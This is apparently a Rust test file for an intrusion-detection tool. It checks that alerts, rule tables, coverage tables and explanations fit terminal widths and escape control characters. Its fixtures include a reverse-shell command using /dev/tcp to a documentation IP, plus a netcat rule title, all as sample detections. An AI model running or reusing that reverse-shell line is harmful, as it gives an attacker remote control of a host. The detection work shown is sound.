//! What the commands print on terminals of 80 and 120 columns, and where there is no terminal.

use jiff::tz::TimeZone;

use super::{
    explain::{self, Explained},
    model::{Alert, Coverage, Rule, tests::alert},
    render,
};
use crate::text::{escape::width, fit::Columns, style::Style};

const PLAIN: Style = Style::PLAIN;
const UTC: TimeZone = TimeZone::UTC;

/// An alert with long texts, some of them hostile.
fn long() -> Alert {
    let mut long = alert();
    long.id = "18".into();
    long.title = "Shell with a Network Connection as its Standard Input".into();
    long.command_line = format!(
        "bash -c \x1b[2J\n{} --and=/{}",
        "word ".repeat(30),
        "deep/".repeat(40)
    );
    long.user = "a-user-with-a-long-name".into();
    long.unit = "a-unit-with-a-long-name@and-an-instance.service".into();
    long.ancestors
        .push((1, "systemd".into(), "/usr/lib/systemd/systemd".into()));
    long.fields
        .insert("CommandLine".into(), long.command_line.clone());
    long.explanation = format!("CommandLine contains \"{}\"; x is y", "z ".repeat(60));
    long
}

fn explained() -> Explained {
    Explained {
        alert: long(),
        description:
            "A shell reads what the network says, and\nwrites to it; no shell that a person \
                      started does so, and few that a program did."
                .into(),
        false_positives: vec!["Programs of the house that nobody remembers ".repeat(4)],
    }
}

fn rules() -> Vec<Rule> {
    let row = |fate: &str, title: &str, reason: &str| {
        let id = "03e42a2f-71e5-51ba-afe4-c49d196c6a81".to_owned();
        let texts = [title, "informational", fate, reason].map(str::to_owned);
        let [title, level, fate, reason] = texts;
        Rule::from((id, title, level, fate, reason))
    };
    vec![
        row("loaded", "Netcat Runs a Program", ""),
        row(
            "not-applicable",
            "Program, Rules or Unit of the Detection Changed",
            "no source here has events of category registry_set, and none has the field TargetObject",
        ),
    ]
}

fn coverage() -> Vec<Coverage> {
    let texts = [
        "privilege.ptrace_traceme",
        "tp_btf/inet_sock_set_state, tp_btf/sys_exit",
        "partial",
        "not seen: opens through io_uring, and files whose descriptor another thread replaces at once",
    ];
    let [class, hook, state, reason] = texts.map(str::to_owned);
    let row = Coverage::from((class, hook, state, reason));
    let same = Coverage {
        class: "open".to_owned(),
        ..row.clone()
    };
    vec![row, same]
}

#[test]
fn every_line_fits() {
    let render = |columns: Columns| {
        [
            render::line(&long(), PLAIN, &UTC, columns),
            render::alerts(&[alert(), long()], PLAIN, &UTC, columns),
            render::details(&long(), PLAIN, &UTC, columns),
            explain::render(&explained(), PLAIN, &UTC, columns),
            render::rules(&rules(), PLAIN, columns),
            render::coverage(&coverage(), PLAIN, columns),
        ]
    };
    for columns in [60, 80, 120, 200] {
        for text in render(Some(columns)) {
            for line in text.lines() {
                assert!(width(line) <= columns, "{columns}: {line}");
                assert!(!line.chars().any(char::is_control), "{line:?}");
            }
        }
    }
    let unlimited = render(None);
    for text in &unlimited {
        assert!(!text.contains('…'), "{text}");
    }
    for text in unlimited.iter().take(4) {
        let whole = crate::text::escape::escape(&long().command_line);
        assert!(text.contains(&whole), "{text}");
    }
}

#[test]
fn alerts_at_80_and_120() {
    let alerts = |columns| render::alerts(&[alert(), long()], PLAIN, &UTC, columns);
    assert_eq!(
        alerts(Some(80)),
        "\
ID  TIME                 LEVEL  COUNT  TITLE                     COMMAND
17  2025-11-21 12:00:00  high       3  Interactive shell from …  bash -i >& /de…
18  2025-11-21 12:00:00  high       3  Shell with a Network Co…  bash -c \\x1b[2…
"
    );
    assert_eq!(
        alerts(Some(120)),
        "\
ID  TIME                 LEVEL  COUNT   PID  USER             UNIT             TITLE                     COMMAND
17  2025-11-21 12:00:00  high       3  4242  www-data         nginx.service    Interactive shell from …  bash -i >& /de…
18  2025-11-21 12:00:00  high       3  4242  a-user-with-a-…  a-unit-with-a-…  Shell with a Network Co…  bash -c \\x1b[2…
"
    );
}

#[test]
fn a_raised_alert_breaks_under_its_title() {
    let mut long = alert();
    long.command_line = "bash -c 'exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | sh'".into();
    assert_eq!(
        render::line(&long, PLAIN, &UTC, Some(80)),
        "\
12:00:00  high           Interactive shell from a service ×3  bash[4242] by
                         www-data in nginx.service: bash -c 'exec
                         5<>/dev/tcp/192.0.2.1/4444; cat <&5 | sh'
"
    );
    // What can't be read at a glance is for `explain`.
    long.command_line = "word ".repeat(1000);
    let text = render::line(&long, PLAIN, &UTC, Some(80));
    assert!(text.lines().count() <= 6 && text.ends_with("…\n"), "{text}");
}

#[test]
fn reasons_go_below_where_there_is_no_room() {
    assert_eq!(
        render::rules(&rules(), PLAIN, Some(80)),
        "\
FATE            LEVEL          TITLE
loaded          informational  Netcat Runs a Program
not-applicable  informational  Program, Rules or Unit of the Detection Changed
      no source here has events of category registry_set, and none has the field
      TargetObject
"
    );
    assert_eq!(
        render::coverage(&coverage()[..1], PLAIN, Some(120)),
        "\
CLASS                     STATE    HOOK
privilege.ptrace_traceme  partial  tp_btf/inet_sock_set_state, tp_btf/sys_exit
      not seen: opens through io_uring, and files whose descriptor another thread replaces at once
"
    );
}

#[test]
fn an_explanation_at_80() {
    let text = explain::render(&explained(), PLAIN, &UTC, Some(80));
    let seen = "\
high  Shell with a Network Connection as its Standard Input

A shell reads what the network says, and writes to it; no shell that a person
started does so, and few that a program did.

Seen, 3 times, the last at 2025-11-21 12:00:00: /usr/bin/bash (4242) ran as
a-user-with-a-long-name (uid 33) in
a-unit-with-a-long-name@and-an-instance.service.

What ran
  systemd[1] /usr/lib/systemd/systemd
    nginx[100] /usr/sbin/nginx
      /usr/bin/bash[4242] bash -c \\x1b[2J\\nword word word word word word word
          word word";
    assert!(text.starts_with(seen), "{text}");
}
